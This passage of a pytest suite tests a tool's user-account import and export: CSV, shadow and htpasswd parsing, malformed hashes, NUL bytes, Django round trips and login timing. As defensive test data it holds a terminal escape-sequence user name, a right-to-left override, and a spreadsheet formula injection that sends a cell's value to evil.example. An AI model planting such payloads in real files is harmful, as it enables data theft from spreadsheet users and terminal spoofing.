    csv.writer(out).writerows(rows)
    assert out.getvalue().endswith("\r\n")
    return out.getvalue().encode()


def test_csv_with_crlf_line_ends(activated, django_hashers):
    """A csv written by Python's csv module (CRLF line ends, a quoted full name) imports; both
    accounts log in."""
    (activated.root / "users.csv").write_bytes(python_csv([
        ["username", "full_name", "email", "password_hash"],
        [BOB, QUOTED_NAME, BOB_EMAIL, pbkdf2(django_hashers, BOB_PASSWORD)],
        [CAROL, "Carol", "carol@example.org", pbkdf2(django_hashers, CAROL_PASSWORD)]]))
    result = import_(activated, "users.csv")
    assert (result.code, result.stdout, result.stderr) == (
        0, "Imported 2 accounts from users.csv.\n", ""), result
    logs_in(activated, BOB, BOB_PASSWORD, QUOTED_NAME)
    logs_in(activated, CAROL, CAROL_PASSWORD, "Carol")


def test_csv_quoted_line_break_in_an_ignored_column(activated, django_hashers):
    """RFC 4180 §2.6: a quoted field may hold a line break; in an ignored column (`note`) it
    changes nothing: both records import and log in."""
    (activated.root / "users.csv").write_bytes(python_csv([
        ["username", "full_name", "email", "password_hash", "note"],
        [BOB, BOB_FULL_NAME, BOB_EMAIL, pbkdf2(django_hashers, BOB_PASSWORD),
         "moved from\nthe old server"],
        [CAROL, "Carol", "carol@example.org", pbkdf2(django_hashers, CAROL_PASSWORD), ""]]))
    result = import_(activated, "users.csv")
    assert (result.code, result.stdout, result.stderr) == (
        0, "Imported 2 accounts from users.csv.\n", ""), result
    logs_in(activated, BOB, BOB_PASSWORD, BOB_FULL_NAME)
    logs_in(activated, CAROL, CAROL_PASSWORD, "Carol")


def test_csv_field_of_20000_lines_imports(activated, django_hashers, tmp_path):
    """A quoted field in an ignored column holding 200 KB over 20,000 lines (read once, not
    again for each line it spans) imports; the record after it keeps its line number in a
    problem."""
    hash_ = pbkdf2(django_hashers, BOB_PASSWORD)
    note = "\n".join(f"note line {n:05d}" for n in range(20_000))  # 16 bytes a line
    assert len(note) > 200_000 and note.count("\n") == 19_999
    rows = [["username", "full_name", "email", "password_hash", "note"],
            [BOB, BOB_FULL_NAME, BOB_EMAIL, hash_, note],
            [CAROL, "Carol", "carol@example.org", hash_, ""]]
    (activated.root / "users.csv").write_bytes(python_csv(rows))
    result = import_(activated, "users.csv")
    assert (result.code, result.stdout, result.stderr) == (
        0, "Imported 2 accounts from users.csv.\n", ""), result
    logs_in(activated, BOB, BOB_PASSWORD, BOB_FULL_NAME)
    rows[2][2] = "not an address"
    other = other_device(tmp_path)
    (other.root / "users.csv").write_bytes(python_csv(rows))
    nothing_imported(import_(other, "users.csv"), starts("line 20002 (carol): ", EMAIL_RULE))


def test_csv_without_header_is_a_problem(activated, django_hashers):
    """With --format csv, a file whose first line is data (no header) is refused; nothing
    imported."""
    write(activated, "users.csv",
          f"{BOB},{BOB_FULL_NAME},{BOB_EMAIL},{pbkdf2(django_hashers, BOB_PASSWORD)}\n")
    nothing_imported(import_(activated, "users.csv", "--format", "csv"), re.compile(".+"))
    assert names(activated) == [USERNAME]


def test_csv_header_without_password_hash_is_a_problem(activated):
    """A header lacking `password_hash` is refused; nothing imported."""
    write(activated, "users.csv", csv_file([f"{BOB},{BOB_FULL_NAME},{BOB_EMAIL}"],
                                           "username,full_name,email"))
    nothing_imported(import_(activated, "users.csv"), re.compile(".+"))
    assert names(activated) == [USERNAME]


def test_csv_boolean_must_be_true_or_false(activated, django_hashers):
    """`disabled` of `maybe` (neither `true` nor `false`) is a problem on its line."""
    write(activated, "users.csv", csv_file(
        [f"{BOB},{BOB_FULL_NAME},{BOB_EMAIL},{pbkdf2(django_hashers, BOB_PASSWORD)},maybe"],
        "username,full_name,email,password_hash,disabled"))
    nothing_imported(import_(activated, "users.csv"), starts("line 2 (bob): "))
    assert names(activated) == [USERNAME]


# The rules every format shares

def test_hostile_names_are_never_printed_raw(activated, django_hashers):
    """An escape sequence in a user name, a right-to-left override in a full name and invalid
    UTF-8 in a user name are problems on their lines (the first two with the form's sentences);
    stderr holds none of them raw."""
    hash_ = pbkdf2(django_hashers, BOB_PASSWORD)
    (activated.root / "users.csv").write_bytes(
        b"username,full_name,email,password_hash\n"
        + f"\x1b[2J\x1b]0;pwned\x07bob,Bob,{BOB_EMAIL},{hash_}\n".encode()
        + f"{CAROL},Car\u202eol,carol@example.org,{hash_}\n".encode()
        + f"da\xffve,Dave,dave@example.org,{hash_}\n".encode("latin-1"))
    proc = subprocess.run([BIN, "user", "import", "users.csv"], capture_output=True,
                          env=activated.env(), cwd=str(activated.root), stdin=subprocess.DEVNULL)
    assert (proc.returncode, proc.stdout) == (2, b"")
    for raw in (b"\x1b", b"\x07", "\u202e".encode(), b"\xff"):
        assert raw not in proc.stderr, proc.stderr
    lines = proc.stderr.decode().splitlines()
    control = "must not contain control or invisible formatting characters!"
    assert len(lines) == 4, lines
    assert re.fullmatch(r"line 2 \(.*\): User name " + re.escape(control), lines[0]), lines
    assert re.fullmatch(r"line 3 \(carol\): Full name " + re.escape(control), lines[1]), lines
    assert re.fullmatch(r"line 4\b.*UTF-8.*", lines[2]), lines
    assert lines[3] == "Nothing was imported: 3 problems."
    assert names(activated) == [USERNAME]


def test_hashes_of_a_bad_length_are_problems_on_their_lines(activated):
    """A SHA-512 hash cut short (too short for the store), one a character too long, a bcrypt
    hash cut short and a yescrypt hash with a character too many, in shadow and htpasswd files:
    each is a problem on its line (exit 1 like every bad line, not a storage error), and
    nothing is stored."""
    sha = mkpasswd("sha-512", BOB_PASSWORD)
    yes = mkpasswd("yescrypt", CAROL_PASSWORD)
    write(activated, "shadow", "".join(shadow_line(n, h) + "\n" for n, h in [
        (BOB, "$6$abc"), (CAROL, sha + "A"), (DAVE, sha), (ERIN, yes + "x")]))
    before, events = activated.accounts(), activated.events()
    damaged = "the password hash is damaged."
    nothing_imported(import_(activated, "shadow", "--email-domain", DOMAIN),
                     f"line 1 (bob): {damaged}", f"line 2 (carol): {damaged}",
                     f"line 4 (erin): {damaged}")
    bcrypt = htpasswd("-B", FRANK, FRANK_PASSWORD)
    write(activated, "site.htpasswd", bcrypt + "\n" + bcrypt.replace(FRANK, BOB)[:-5] + "\n")
    nothing_imported(import_(activated, "site.htpasswd", "--email-domain", DOMAIN),
                     f"line 2 (bob): {damaged}")
    unchanged(activated, before, events)


def test_nul_bytes_are_refused_on_their_lines(activated, django_hashers):
    """A NUL byte is refused wherever it is in a line (after a hash that is whole, inside a
    hash, in another field; shadow, htpasswd and csv, also inside a quoted csv field that spans
    lines), each on its line; nothing is stored."""
    sha = mkpasswd("sha-512", BOB_PASSWORD)
    nul = "the line holds a NUL byte, which no text file has."
    before, events = activated.accounts(), activated.events()
    (activated.root / "shadow").write_bytes(
        (shadow_line(BOB, sha + "\0") + "\n" + shadow_line(CAROL, sha[:20] + "\0" + sha[21:])
         + "\n" + shadow_line(DAVE, sha) + "\n" + f"{ERIN}:{sha}:19000\0:0:99999:7:::\n"
         ).encode())
    nothing_imported(import_(activated, "shadow", "--email-domain", DOMAIN),
                     f"line 1: {nul}", f"line 2: {nul}", f"line 4: {nul}")
    (activated.root / "site.htpasswd").write_bytes(
        (htpasswd("-B", BOB, BOB_PASSWORD) + "\0\n").encode())
    nothing_imported(import_(activated, "site.htpasswd", "--email-domain", DOMAIN),
                     f"line 1: {nul}")
    hash_ = pbkdf2(django_hashers, BOB_PASSWORD)
    (activated.root / "users.csv").write_bytes(
        (csv_file([f"{BOB},Bob\0,{BOB_EMAIL},{hash_}",
                   f'{CAROL},Carol,carol@example.org,{hash_},"two\nli\0nes"',
                   f"{DAVE},Dave,dave@example.org,{hash_}"],
                  "username,full_name,email,password_hash,note").replace(
                      f"{DAVE},Dave,dave@example.org,{hash_}\n",
                      f"{DAVE},Dave,dave@example.org,{hash_},\n")
         ).encode())
    nothing_imported(import_(activated, "users.csv"), f"line 2: {nul}", f"line 3: {nul}")
    unchanged(activated, before, events)


def test_duplicates_in_the_file_name_both_lines(activated, django_hashers):
    """`Bob` on line 4 after `bob` on line 2: `line 4 (Bob): user name Bob is also on line 2.`"""
    hash_ = pbkdf2(django_hashers, BOB_PASSWORD)
    write(activated, "users.csv", csv_file([f"{BOB},{BOB_FULL_NAME},{BOB_EMAIL},{hash_}",
                                            f"{CAROL},Carol,carol@example.org,{hash_}",
                                            f"Bob,Bob Two,bob2@example.org,{hash_}"]))
    before, events = activated.accounts(), activated.events()
    nothing_imported(import_(activated, "users.csv"),
                     "line 4 (Bob): user name Bob is also on line 2.")
    unchanged(activated, before, events)


@pytest.mark.parametrize("name,reason", [("missing.csv", "No such file or directory"),
                                         ("folder", "it is a folder")])
def test_an_unreadable_import_file_is_a_usage_error(activated, name, reason):
    """An import file that is missing or a folder is the person's input, not the store's: its
    own sentence and exit 2, nothing imported."""
    (activated.root / "folder").mkdir()
    before, events = activated.accounts(), activated.events()
    result = import_(activated, name)
    assert (result.code, result.stdout) == (2, "")
    assert result.stderr == (f"Cannot read the import file {name}: {reason}. Name a readable "
                             "file, or - for standard input.\n")
    unchanged(activated, before, events)


def test_name_already_taken(activated):
    """`ALICE` in an htpasswd file where alice exists: `line 2 (ALICE): user name ALICE is
    already taken.`, exit 1 (the file is good; the store's state refuses it, as `user add`
    would)."""
    write(activated, "site.htpasswd", htpasswd("-B", BOB, BOB_PASSWORD) + "\n"
          + htpasswd("-B", "ALICE", CAROL_PASSWORD) + "\n")
    nothing_imported(import_(activated, "site.htpasswd", "--email-domain", DOMAIN),
                     "line 2 (ALICE): user name ALICE is already taken.", code=1)
    assert names(activated) == [USERNAME]


def test_bad_user_name_and_bad_email(activated, django_hashers):
    """A user name with a space and a malformed e-mail are problems on their lines, with the
    Activation Form's rule sentences; nothing imported."""
    hash_ = pbkdf2(django_hashers, BOB_PASSWORD)
    write(activated, "users.csv", csv_file([f"bob builder,{BOB_FULL_NAME},{BOB_EMAIL},{hash_}",
                                            f"{CAROL},Carol,carol at example.org,{hash_}"]))
    nothing_imported(import_(activated, "users.csv"),
                     starts("line 2 (bob builder): ", USERNAME_RULE),
                     starts("line 3 (carol): ", EMAIL_RULE))
    assert names(activated) == [USERNAME]


def test_more_than_twenty_problems(activated, django_hashers):
    """25 bad e-mails: the first 20 problems (lines 2..21), `… and 5 more problems.`, then
    `Nothing was imported: 25 problems.`"""
    hash_ = pbkdf2(django_hashers, BOB_PASSWORD)
    write(activated, "users.csv", csv_file(
        [f"user{n},User {n},no-at-sign-{n},{hash_}" for n in range(25)]))
    nothing_imported(import_(activated, "users.csv"),
                     *[starts(f"line {n + 2} (user{n}): ", EMAIL_RULE) for n in range(20)],
                     "… and 5 more problems.", total=25)
    assert names(activated) == [USERNAME]


def test_all_or_nothing(activated, django_hashers):
    """Three good rows and one bad one: nothing imported, every account and event as before."""
    activated.add_user()
    hash_ = pbkdf2(django_hashers, CAROL_PASSWORD)
    write(activated, "users.csv", csv_file(
        [f"{CAROL},Carol,carol@example.org,{hash_}", f"{DAVE},Dave,dave@example.org,{hash_}",
         f"{ERIN},Erin,erin@example.org,not a hash at all",
         f"{FRANK},Frank,f@example.org,{hash_}"]))
    before, events = activated.accounts(), activated.events()
    nothing_imported(import_(activated, "users.csv"), starts("line 4 (erin): "))
    unchanged(activated, before, events)
    refused_login(activated, CAROL, CAROL_PASSWORD)


def test_dry_run_writes_nothing(activated, django_hashers):
    """--dry-run checks everything, says `Dry run: 2 accounts would be imported from users.csv;
    nothing was written.` and writes nothing (no account, no event); the real run then imports."""
    write(activated, "users.csv", csv_file(
        [f"{BOB},{BOB_FULL_NAME},{BOB_EMAIL},{pbkdf2(django_hashers, BOB_PASSWORD)}",
         f"{CAROL},Carol,carol@example.org,{pbkdf2(django_hashers, CAROL_PASSWORD)}"]))
    before, events = activated.accounts(), activated.events()
    result = import_(activated, "users.csv", "--dry-run")
    assert (result.code, result.stdout, result.stderr) == (
        0, "Dry run: 2 accounts would be imported from users.csv; nothing was written.\n", "")
    unchanged(activated, before, events)
    assert import_(activated, "users.csv").stdout == "Imported 2 accounts from users.csv.\n"
    logs_in(activated, CAROL, CAROL_PASSWORD, "Carol")


def test_dry_run_reports_the_same_problems(activated, django_hashers):
    """--dry-run with problems prints exactly what the real run prints (exit 1) and writes
    nothing."""
    hash_ = pbkdf2(django_hashers, BOB_PASSWORD)
    write(activated, "users.csv", csv_file([f"{BOB},{BOB_FULL_NAME},{BOB_EMAIL},{hash_}",
                                            f"{USERNAME},Again,a@example.org,{hash_}"]))
    before, events = activated.accounts(), activated.events()
    dry = import_(activated, "users.csv", "--dry-run")
    nothing_imported(dry, "line 3 (alice): user name alice is already taken.", code=1)
    real = import_(activated, "users.csv")
    assert (dry.code, dry.stdout, dry.stderr) == (real.code, real.stdout, real.stderr)
    unchanged(activated, before, events)


def test_format_cannot_be_told(activated):
    """Content of no known shape: `Cannot tell the format of notes.txt: give --format django,
    shadow, htpasswd or csv.` exit 2."""
    write(activated, "notes.txt", "just some words\nand more words\n")
    result = import_(activated, "notes.txt")
    assert (result.code, result.stdout, result.stderr) == (
        2, "", "Cannot tell the format of notes.txt: give --format django, shadow, htpasswd or "
               "csv.\n")
    assert names(activated) == [USERNAME]


def test_format_flag_overrides_guessing(activated, django_hashers):
    """A csv whose header does not start with `username,` cannot be guessed (exit 2); with
    --format csv it imports (columns found by name)."""
    write(activated, "people", csv_file(
        [f"{BOB_EMAIL},{pbkdf2(django_hashers, BOB_PASSWORD)},{BOB},{BOB_FULL_NAME}"],
        "email,password_hash,username,full_name"))
    guessed = import_(activated, "people")
    assert (guessed.code, guessed.stderr) == (
        2, "Cannot tell the format of people: give --format django, shadow, htpasswd or csv.\n")
    result = import_(activated, "people", "--format", "csv")
    assert (result.code, result.stdout, result.stderr) == (
        0, "Imported 1 account from people.\n", ""), result
    logs_in(activated, BOB, BOB_PASSWORD, BOB_FULL_NAME)


def test_unknown_format_is_a_usage_error(activated):
    """`--format ldif` is a usage error (exit 2)."""
    write(activated, "site.htpasswd", htpasswd("-B", BOB, BOB_PASSWORD) + "\n")
    result = import_(activated, "site.htpasswd", "--format", "ldif", "--email-domain", DOMAIN)
    assert (result.code, result.stdout) == (2, "")
    assert names(activated) == [USERNAME]


def test_dash_reads_standard_input(activated):
    """FILE `-` reads standard input (format guessed from it too)."""
    text = htpasswd("-B", BOB, BOB_PASSWORD) + "\n" + htpasswd("-B", CAROL, CAROL_PASSWORD) + "\n"
    result = import_(activated, "-", "--email-domain", DOMAIN, input=text)
    assert (result.code, result.stderr) == (0, ""), result
    assert re.fullmatch(r"Imported 2 accounts from (-|standard input)\.\n", result.stdout), result
    logs_in(activated, CAROL, CAROL_PASSWORD)


def test_public_device_is_refused(device):
    """On a Public device import says to activate first, exit 1."""
    device.activate()
    assert device.run("reset", "--yes").code == 0
    write(device, "site.htpasswd", htpasswd("-B", BOB, BOB_PASSWORD) + "\n")
    result = import_(device, "site.htpasswd", "--email-domain", DOMAIN)
    assert (result.code, result.stdout, result.stderr) == (1, "", NOT_ACTIVATED + "\n")
    assert device.status()["state"] == "Public"
    assert device.accounts() == []


def test_import_audit_event(activated, django_hashers):
    """One `accounts_imported` event per import, detail `N accounts (csv)`."""
    write(activated, "users.csv", csv_file(
        [f"{BOB},{BOB_FULL_NAME},{BOB_EMAIL},{pbkdf2(django_hashers, BOB_PASSWORD)}",
         f"{CAROL},Carol,carol@example.org,{pbkdf2(django_hashers, CAROL_PASSWORD)}"]))
    assert import_(activated, "users.csv").code == 0
    assert [(e["event"], e["detail"]) for e in activated.events()] == [
        ("activation", None), ("accounts_imported", "2 accounts (csv)")]


# export

@pytest.fixture
def three(activated):
    """alice (owner), bob (logged in once), carol (disabled, full name with a comma and quotes,
    must change her password), added in the order carol, bob."""
    activated.add_user(CAROL, CAROL_QUOTED, "carol@example.org", CAROL_PASSWORD)
    activated.add_user()
    logs_in(activated, BOB, BOB_PASSWORD, BOB_FULL_NAME)
    assert activated.run("user", "disable", CAROL).code == 0
    assert activated.run("user", "passwd", CAROL, "--password-stdin", "--must-change",
                         input=CAROL_PASSWORD + "\n").code == 0
    return activated


def test_export_json_is_django_dumpdata(three):
    """Default export: one JSON array in user-name order, each entry Django's dumpdata form with
    the account's id, hash, owner as superuser, disabled as not active, creation and last login."""
    result = export(three)
    assert (result.code, result.stderr) == (0, ""), result
    entries = json.loads(result.stdout)
    accounts = {a["username"]: a for a in three.accounts()}
    ids = dict((name, id_) for id_, name in three.query("SELECT id, username FROM account"))
    assert [e["fields"]["username"] for e in entries] == [USERNAME, BOB, CAROL]
    for entry in entries:
        name = entry["fields"]["username"]
        assert set(entry) == JSON_KEYS and set(entry["fields"]) == FIELD_KEYS, entry
        assert (entry["model"], entry["pk"]) == ("auth.user", ids[name])
        account = accounts[name]
        assert entry["fields"] == {
            "username": name, "first_name": account["fullName"], "last_name": "",
            "email": account["email"], "password": three.stored_hash(name),
            "is_active": not account["disabled"], "is_staff": False,
            "is_superuser": account["owner"], "date_joined": account["createdAt"],
            "last_login": account["lastLogin"], "groups": [], "user_permissions": []}
    assert [e["fields"]["is_superuser"] for e in entries] == [True, False, False]
    assert entries[1]["fields"]["last_login"] is not None
    assert entries[2]["fields"]["last_login"] is None


def test_export_csv(three):
    """`--format csv`: the exact header, then one RFC 4180 row per account in user-name order
    (quoting the full name), booleans `true`/`false`, timestamps, an empty last login for never."""
    result = export(three, "--format", "csv")
    assert (result.code, result.stderr) == (0, ""), result
    assert result.stdout.splitlines()[0] == CSV_HEADER
    rows = list(csv.reader(io.StringIO(result.stdout, newline="")))[1:]
    accounts = {a["username"]: a for a in three.accounts()}
    expected = []
    for name in (USERNAME, BOB, CAROL):
        a = accounts[name]
        expected.append([name, a["fullName"], a["email"], three.stored_hash(name),
                         "true" if a["disabled"] else "false",
                         "true" if a["mustChangePassword"] else "false",
                         a["createdAt"], a["lastLogin"] or ""])
    assert rows == expected
    assert rows[2][1] == CAROL_QUOTED and rows[2][4:6] == ["true", "true"]


def test_export_output_file_is_private(three):
    """`--output FILE` writes a new file of mode 0600 (even under umask 0), nothing on stdout,
    holding what stdout would hold."""
    result = three.run("user", "export", "--output", "out.json", umask=0)
    assert (result.code, result.stdout, result.stderr) == (0, "", ""), result
    path = three.root / "out.json"
    assert stat.S_IMODE(os.stat(path).st_mode) == 0o600
    assert json.loads(path.read_text()) == json.loads(export(three).stdout)


def test_export_never_overwrites(three):
    """An existing --output file is refused: `out.csv exists; export never overwrites a file.`
    exit 1, the file unchanged."""
    path = three.root / "out.csv"
    path.write_text("keep me\n")
    os.chmod(path, 0o644)
    result = export(three, "--format", "csv", "--output", "out.csv")
    assert (result.code, result.stdout, result.stderr) == (
        1, "", "out.csv exists; export never overwrites a file.\n")
    assert path.read_text() == "keep me\n"
    assert stat.S_IMODE(os.stat(path).st_mode) == 0o644


def test_export_audit_events(three):
    """Each export writes one `accounts_exported` event, detail `3 accounts (json)` /
    `3 accounts (csv)`."""
    assert export(three).code == 0
    assert export(three, "--format", "csv", "--output", "x.csv").code == 0
    exported = [e["detail"] for e in three.events() if e["event"] == "accounts_exported"]
    assert exported == ["3 accounts (json)", "3 accounts (csv)"]


def test_export_loads_into_django(three, django_project):
    """The JSON export loads with Django's `loaddata` into a fresh Django database, where
    `check_password` accepts each password (and not a wrong one) and the flags read back."""
    assert three.run("user", "export", "--output", str(django_project.folder / "accounts.json")
                     ).code == 0
    django_project.admin("loaddata", str(django_project.folder / "accounts.json"))
    assert django_project.check_passwords([
        (USERNAME, PASSWORD), (BOB, BOB_PASSWORD), (CAROL, CAROL_PASSWORD),
        (BOB, WRONG_PASSWORD)]) == [True, True, True, False]
    assert django_project.users() == {
        USERNAME: (True, True, FULL_NAME, EMAIL), BOB: (True, False, BOB_FULL_NAME, BOB_EMAIL),
        CAROL: (False, False, CAROL_QUOTED, "carol@example.org")}


def other_device(tmp_path, owner="owen"):
    """A second device, activated by a different owner."""
    root = tmp_path / "other"
    root.mkdir()
    device = Device(root)
    device.activate(owner, "Owen Owner", "owen@example.org", "quartz meadow lantern ninety nine")
    return device


@pytest.mark.parametrize("fmt", ["json", "csv"])
def test_round_trip(three, tmp_path, fmt):
    """Export from one device, import into another owned by someone else: every account logs in
    there with its password (carol once enabled), the old owner is an ordinary account, flags
    kept."""
    assert export(three, "--format", fmt, "--output", f"all.{fmt}").code == 0
    other = other_device(tmp_path)
    shutil.copy(three.root / f"all.{fmt}", other.root / f"all.{fmt}")
    result = import_(other, f"all.{fmt}")
    assert (result.code, result.stdout, result.stderr) == (
        0, f"Imported 3 accounts from all.{fmt}.\n", ""), result
    accounts = {a["username"]: a for a in other.accounts()}
    assert sorted(accounts) == [USERNAME, BOB, CAROL, "owen"]
    assert [n for n, a in accounts.items() if a["owner"]] == ["owen"]
    assert accounts[CAROL]["disabled"] and accounts[CAROL]["fullName"] == CAROL_QUOTED
    assert [e["detail"] for e in other.events() if e["event"] == "accounts_imported"] == [
        f"3 accounts ({'django' if fmt == 'json' else 'csv'})"]
    logs_in(other, USERNAME, PASSWORD, FULL_NAME)
    logs_in(other, BOB, BOB_PASSWORD, BOB_FULL_NAME)
    refused_login(other, CAROL, CAROL_PASSWORD)
    assert other.run("user", "enable", CAROL).code == 0
    if fmt == "csv":
        assert accounts[CAROL]["mustChangePassword"]
    else:
        logs_in(other, CAROL, CAROL_PASSWORD, CAROL_QUOTED)


def test_round_trip_owner_name_taken(three, tmp_path):
    """Importing into a device whose owner is also called alice: entry 1 is taken; nothing
    imported there."""
    assert export(three, "--output", "all.json").code == 0
    root = tmp_path / "other"
    root.mkdir()
    other = Device(root)
    other.activate(USERNAME, "Another Alice", "alice2@example.org",
                   "violet harbour compass seventeen")
    shutil.copy(three.root / "all.json", other.root / "all.json")
    nothing_imported(import_(other, "all.json"),
                     "entry 1 (alice): user name alice is already taken.", code=1)
    assert names(other) == [USERNAME]


def test_imported_crypt_hash_exports_and_reimports(activated, tmp_path):
    """A yescrypt hash imported from shadow is exported as it is (csv) and logs in on a second
    device after importing that export."""
    crypt_hash = mkpasswd("yescrypt", BOB_PASSWORD)
    write(activated, "shadow", shadow_line(BOB, crypt_hash) + "\n")
    assert import_(activated, "shadow", "--email-domain", DOMAIN).code == 0
    result = export(activated, "--format", "csv")
    rows = list(csv.reader(io.StringIO(result.stdout, newline="")))
    assert rows[2][:4] == [BOB, BOB, f"{BOB}@{DOMAIN}", crypt_hash]
    other = other_device(tmp_path)
    write(other, "all.csv", result.stdout)
    assert import_(other, "all.csv").code == 0
    logs_in(other, BOB, BOB_PASSWORD)


# The cost of a wrong password on an imported crypt(3) hash

def login_cpu(device, username, password):
    """CPU seconds of one refused `login` at the real iteration count."""
    return cpu_seconds(["login", "--no-session", "--username", username, "--password-stdin"],
                       password + "\n", device.env(fast=False))


def test_wrong_password_on_yescrypt_costs_an_unknown_name(device):
    """At the real iteration count, a wrong password for an imported yescrypt account costs at
    least about what an unknown name costs (CPU medians of 3 alternated runs: ratio > 0.5)."""
    device.activate(fast=False)
    write(device, "shadow", shadow_line(BOB, mkpasswd("yescrypt", BOB_PASSWORD)) + "\n")
    result = subprocess.run([TIMING_BIN, "user", "import", "shadow", "--email-domain", DOMAIN],
                            env=device.env(fast=False), cwd=str(device.root),
                            capture_output=True, text=True)
    assert result.returncode == 0, result.stderr
    wrong, unknown = [], []
    for turn in range(3):
        wrong.append(login_cpu(device, BOB, WRONG_PASSWORD))
        unknown.append(login_cpu(device, f"nobody{turn}", WRONG_PASSWORD))
    wrong_median, unknown_median = statistics.median(wrong), statistics.median(unknown)
    assert unknown_median > 0.02, unknown
    assert wrong_median / unknown_median > 0.5, (wrong, unknown)
    assert device.stored_hash(BOB).startswith("$y$")


# Cells a spreadsheet would run as formulas.

FORMULAS = ['=HYPERLINK("http://evil.example/?q="&A1,"Click me")', "+1 555 0100", "-2+3",
            "@SUM(A1:A9)", "'=already quoted", "''+twice"]


def test_export_csv_neutralises_formulas(activated, tmp_path):
    """A full name, user name or e-mail a spreadsheet would run (starting with `=`, `+`, `-` or
    `@`, after any `'`s) is exported with a `'` before it and quoted, as OWASP advises; other
    cells are as they were (a `'` that starts no formula is kept as it is). Imported into another
    device, the export gives back exactly the same names."""
    def add(username, full_name, email, password):
        # `--flag=value`: a value starting with `-` is not taken for a flag.
        result = activated.run("user", "add", f"--username={username}",
                               f"--full-name={full_name}", f"--email={email}",
                               "--password-stdin", input=password + "\n")
        assert (result.code, result.stderr) == (0, ""), result

    for number, name in enumerate(FORMULAS):
        add(f"user{number}", name, f"user{number}@example.org", BOB_PASSWORD)
    add("-minus", "'Quoted' Name", "+tag@example.org", CAROL_PASSWORD)
    result = export(activated, "--format", "csv")
    assert (result.code, result.stderr) == (0, ""), result
    lines = result.stdout.splitlines()
    by_name = {line.split(",", 1)[0]: line for line in lines[1:]}
    assert by_name["user0"].startswith(
        'user0,"\'=HYPERLINK(""http://evil.example/?q=""&A1,""Click me"")",user0@example.org,')
    assert by_name["user1"].startswith('user1,"\'+1 555 0100",user1@example.org,')
    assert by_name["user2"].startswith('user2,"\'-2+3",')
    assert by_name["user3"].startswith('user3,"\'@SUM(A1:A9)",')
    assert by_name["user4"].startswith('user4,"\'\'=already quoted",')
    assert by_name["user5"].startswith('user5,"\'\'\'+twice",')
    assert by_name['"\'-minus"'].startswith(
        '"\'-minus",\'Quoted\' Name,"\'+tag@example.org",pbkdf2_sha256$')
    rows = list(csv.reader(io.StringIO(result.stdout, newline="")))[1:]
    assert {row[1] for row in rows} == {FULL_NAME, "'Quoted' Name"} | {"'" + f for f in FORMULAS}
    assert not any(cell[:1] in ("=", "+", "-", "@") for row in rows for cell in row)

    (activated.root / "all.csv").write_text(result.stdout)
    other = other_device(tmp_path)
    shutil.copy(activated.root / "all.csv", other.root / "all.csv")
    result = import_(other, "all.csv")
    assert (result.code, result.stderr) == (0, ""), result
    original = {a["username"]: (a["fullName"], a["email"]) for a in activated.accounts()}
    imported = {a["username"]: (a["fullName"], a["email"]) for a in other.accounts()}
    assert imported == {**original, "owen": ("Owen Owner", "owen@example.org")}
    result = other.run("login", "--no-session", "--username=-minus", "--password-stdin",
                       input=CAROL_PASSWORD + "\n")
    assert (result.code, result.out_lines[0]) == (0, "Welcome back 'Quoted' Name!"), result


def test_import_csv_takes_off_the_quote_before_a_formula(activated, django_hashers):
    """A CSV written by hand: a `'` is taken off only where it comes before `'`s and then `=`,
    `+`, `-` or `@` (what an export writes); anywhere else it is the name's own."""
    hash_ = pbkdf2(django_hashers, BOB_PASSWORD)
    write(activated, "users.csv", csv_file([
        f"bob,'=1+1,bob@example.org,{hash_}",
        f"carol,\"''-x\",carol@example.org,{hash_}",
        f"dave,'Dave',dave@example.org,{hash_}",
        f"erin,'',erin@example.org,{hash_}",
        f"frank,=plain,frank@example.org,{hash_}",
    ]))
    result = import_(activated, "users.csv")
    assert (result.code, result.stderr) == (0, ""), result
    assert {a["username"]: a["fullName"] for a in activated.accounts()} == {
        USERNAME: FULL_NAME, BOB: "=1+1", CAROL: "'-x", DAVE: "'Dave'", ERIN: "''",
        FRANK: "=plain"}
